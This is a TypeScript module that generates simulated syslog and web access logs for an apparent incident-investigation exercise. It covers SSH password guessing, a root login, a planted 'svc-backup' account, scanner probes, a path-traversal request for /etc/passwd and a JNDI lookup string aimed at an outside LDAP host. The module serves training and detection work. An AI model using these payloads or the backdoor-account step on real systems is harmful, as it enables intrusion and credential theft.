import type { RecordingClock } from '../clock.ts'
import { attacker, others, steps, webServer } from '../places.ts'

const triedNames = ['admin', 'test', 'oracle', 'ubuntu', 'git', 'deploy', 'postgres', 'backup'] as const

/** The authentication log of the web server. */
export function authLines(clock: RecordingClock): string[] {
  const line = (before: number, program: string, text: string): string =>
    `<38>${clock.syslog(before)} ${webServer.name} ${program}: ${text}`
  const from = `from ${attacker.address} port`
  return [
    ...Array.from({ length: 12 }, (_, i) =>
      line(
        1_780 - i * 150,
        `CRON[${2_000 + i}]`,
        'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      ),
    ),
    line(1_700, 'sshd[1904]', 'Accepted publickey for carol from 192.0.2.41 port 50122 ssh2: ED25519 SHA256:demo'),
    line(1_690, 'sudo', '   carol : TTY=pts/0 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx'),
    ...Array.from({ length: 32 }, (_, i) => {
      const name = triedNames[i % triedNames.length] ?? 'admin'
      return line(
        steps.guessing - i * 8,
        `sshd[${2_300 + i}]`,
        i % 4 === 3
          ? `Failed password for root ${from} ${44_100 + i} ssh2`
          : `Failed password for invalid user ${name} ${from} ${44_100 + i} ssh2`,
      )
    }),
    line(steps.login, 'sshd[2390]', `Accepted password for root ${from} 44190 ssh2`),
    line(steps.login - 1, 'sshd[2390]', 'pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)'),
    line(
      steps.login - 60,
      'useradd[2410]',
      'new user: name=svc-backup, UID=1007, GID=1007, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/1',
    ),
  ]
}

/** The access log of its web server. */
export function accessLines(clock: RecordingClock): string[] {
  const line = (before: number, from: string, request: string, status: number, agent: string): string =>
    `${from} - - [${clock.accessLog(before)}] "${request} HTTP/1.1" ${status} ${400 + (Math.round(before) % 9_000)} "-" "${agent}"`
  const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
  const pages = ['/', '/products', '/cart', '/products/17', '/help'] as const
  return [
    ...Array.from({ length: 60 }, (_, i) =>
      line(
        1_788 - i * 29,
        others[i % others.length] ?? others[0],
        `GET ${pages[i % pages.length] ?? '/'}`,
        200,
        browser,
      ),
    ),
    ...['/admin', '/.git/config', '/wp-login.php', '/server-status'].map((path, i) =>
      line(steps.scan - 60 - i * 3, attacker.address, `GET ${path}`, 404, 'Mozilla/5.0 (compatible; Nuclei)'),
    ),
    line(steps.exploit + 30, attacker.address, 'GET /download?file=../../../../etc/passwd', 400, 'curl/8.5.0'),
    line(steps.exploit, attacker.address, 'GET /search?q=${jndi:ldap://198.51.100.80/a}', 500, 'Mozilla/5.0'),
  ]
}
